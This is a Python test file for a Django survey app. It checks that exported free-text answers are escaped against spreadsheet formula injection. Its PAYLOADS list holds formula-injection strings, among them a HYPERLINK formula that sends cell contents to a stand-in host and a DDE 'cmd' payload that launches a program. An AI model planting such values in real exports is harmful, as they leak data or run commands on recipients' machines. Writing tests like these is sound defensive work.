"""Words that people typed come back as they were, and none of them is a formula on the way."""

import json
from random import Random

import pytest
from django.db import connection

from surveys.enrolment.models import Participant
from surveys.exports.gaps import MEANINGS
from surveys.exports.guard import guard, guard_sql
from surveys.participation.models import Response
from surveys.protocols.models import Version
from tests.exports.reading import NOON, texts, unguarded, wide
from tests.findings.people import begin

PAYLOADS = [
    *('=HYPERLINK("http://x.example/?"&A1)', "+1+1", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "\t=1", "\r=1", "\n=1"),
    *("＝1+1", "＋1", "－1", "＠a", "  =1", "\u00a0=1", "\u3000=1", "\ufeff=1", "\u200b=1", "\x0b=1", "\x1f=1"),
    *("one\n=1+1", "one\r\n=1", "one\r=1", "|calc", "%0A=1", "−1", "'=1", "''", "'", "\u202e=1"),
]
HARMLESS = [
    "fine",
    "a=b",
    "3 - 2",
    "me@example.org",
    "مرحبا",
    "泣いた",
    "😭 tears",
    "é",
    'said "no", twice',
    "100%",
    "  x",
]
STRANGE = [*MEANINGS, "\u2028=1", "\U0001f1e9\U0001f1ea", "e\u0301", "\x7f", "NULL", "\\N", "\\.", '"', ",", "\x01"]
ACTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", "|", "%", "−")


@pytest.mark.promise("X4")
@pytest.mark.parametrize("text", PAYLOADS)
def test_what_could_act_gets_an_apostrophe(text: str) -> None:
    assert guard(text) == f"'{text}"


@pytest.mark.parametrize("text", HARMLESS)
def test_what_could_not_stays_as_it_was_typed(text: str) -> None:
    assert guard(text) == text


@pytest.mark.promise("X4")
def test_postgresql_guards_as_python_does(db: None) -> None:
    dice = Random(3)
    letters = "=+-@'a1 \t\r\n\u00a0\u3000＝😭[]%|é\u200b"
    made = ["".join(dice.choices(letters, k=dice.randint(1, 6))) for _ in range(2_000)]
    texts = [*PAYLOADS, *HARMLESS, *STRANGE, *made]
    guarded = guard_sql("x").replace("%", "%%")
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {guarded} FROM UNNEST(%s::text[]) WITH ORDINALITY t (x, n) ORDER BY n", [texts])
        found = [row[0] for row in cursor.fetchall()]

    assert found == [guard(text) for text in texts]


@pytest.mark.promise("R14")
@pytest.mark.promise("X4")
def test_any_text_survives_to_the_export_and_none_begins_like_a_formula(short: Version) -> None:
    typed = [*PAYLOADS, *HARMLESS, *STRANGE]
    for words in typed:
        answer(short, [["tea", {"other": words}], ["other", words], words])

    lines = texts(short.study)

    for name in ("everything_words", "everything_where_other", "everything_likes_other"):
        cells = [line["text"] for line in lines if line["name"] == name]
        # Lines stand in an order that says nothing.
        assert sorted(unguarded(cells)) == sorted(typed)
        assert [cell for cell in cells if cell.lstrip(" \u00a0\u3000\ufeff\u200b").startswith(ACTS)] == []


@pytest.mark.promise("X4")
def test_control_without_the_guard_a_formula_would_stand_in_the_file(
    short: Version, monkeypatch: pytest.MonkeyPatch
) -> None:
    answer(short, [["tea"], "home", "=1+1"])
    monkeypatch.setattr("surveys.exports.cells.guard_sql", lambda text: text)

    assert [line["text"] for line in texts(short.study)] == ["=1+1"]


@pytest.mark.promise("X4")
def test_numbers_stay_numbers(short: Version) -> None:
    person = answer(short, [["tea"], "home", "-1"])
    Response.objects.create(participant=person, step="wait1", page=0, answers=[-12.5], shown_at=NOON, at=NOON)

    line = wide(short.study)[0]

    assert (line["wait1_one"], line["everything_words"]) == ("-12.5", "1")
    assert [line["text"] for line in texts(short.study)] == ["'-1"]


def test_other_and_several_answers_have_columns_of_their_own(short: Version) -> None:
    for likes, where in [
        (["tea", "coffee"], "home"),
        (["other", {"other": "rain"}], ["other", "on a boat"]),
        (["other"], "other"),
        (None, {"gap": "declined"}),
    ]:
        answer(short, [likes, where, "words"])

    cells = [
        [line[f"everything_{name}"] for name in ("likes_tea", "likes_coffee", "likes_other", "where", "where_other")]
        for line in wide(short.study)
    ]

    assert cells == [
        ["1", "1", "[not shown]", "home", "[not shown]"],
        ["0", "0", "1", "other", "1"],
        ["0", "0", "[not answered]", "other", "[not answered]"],
        ["[not answered]"] * 3 + ["[declined]"] * 2,
    ]


def answer(version: Version, answers: list[object]) -> Participant:
    """Somebody who has sent the first page of the step that asks everything."""
    person = begin(version)
    assert json.dumps(answers)
    Response.objects.create(participant=person, step="everything", page=0, answers=answers, shown_at=NOON, at=NOON)
    return person
